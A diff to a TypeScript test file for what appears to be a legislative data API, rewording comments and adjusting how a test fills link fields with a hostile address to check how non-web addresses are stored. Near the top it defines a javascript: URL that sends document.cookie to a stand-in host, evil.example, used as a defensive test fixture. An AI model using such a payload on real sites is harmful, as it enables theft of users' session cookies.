@@ -12,12 +12,12 @@ import { createTestTopics } from '../support/log/topics.ts'
 
 const HOSTILE = "javascript:fetch('https://evil.example/'+document.cookie)"
 const LINKS = new Set(['url', 'image', 'html_url', 'pdf_url', 'text_url', 'comment_url'])
-/** What a source says beside the fields that there are has no form, so nobody takes it for a link. */
+/** Values of a source outside our fields have no fixed form, so no reader treats them as links. */
 const UNKNOWN = new Set(['extras'])
 
 type Member = readonly [name: string, value: unknown]
 
-/** The same body with a hostile address wherever one may stand. */
+/** The same body with a hostile address in each place for an address. */
 function poisoned(value: unknown): unknown {
   if (Array.isArray(value)) return value.map(poisoned)
   if (typeof value !== 'object' || value === null) return value
@@ -28,20 +28,21 @@ function poisoned(value: unknown): unknown {
       if (name === 'sources' || (name === 'links' && isNoted(value)))
         return [name, [{ url: HOSTILE, note: 'a note' }]]
       if (name === 'links') return [name, [{ url: HOSTILE, media_type: 'text/html' }]]
-      if (name === 'citations') return [name, [CITATION]]
+      if (name === 'citations') return [name, 'prompt_version' in value ? member : [CITATION]]
       return [name, poisoned(member)]
     }),
   )
 }
-/** Links of people and committees have notes, those of files media types. */
+/** Links of people and committees have notes, and links of files have media types. */
 const isNoted = (owner: object): boolean => 'roles' in owner || 'memberships' in owner
 
+/** A bill cites laws. A derivation cites words of the bill, without an address. */
 const CITATION = {
   ...{ publication: 'Session Laws', citation: '1', citation_type: 'act' },
   ...{ effective: null, expires: null, url: HOSTILE },
 }
 
-/** Paths of all members with the hostile address, apart from what says that it is no link. */
+/** Paths of all members with the hostile address, except those that mark it as a non-link. */
 function linksIn(value: unknown, path: readonly string[] = []): string[] {
   if (typeof value === 'string')
     return value === HOSTILE && !path.includes('invalid_url') ? [path.join('.')] : []
@@ -70,8 +71,8 @@ beforeAll(async () => {
   api = await createTestApi(test, { settings: { rate_limits: '0' } })
 })
 
-describe('an address that is no web address', () => {
-  it('is stored as the log and the rule say, by an independent fold', async () => {
+describe('an address that is not a web address', () => {
+  it('is stored as the log and the rule say, and an independent fold agrees', async () => {
     const { database, read_schema } = setting
     expect(await verify({ database, settings, read_schema })).toMatchObject({
       is_equal: true,
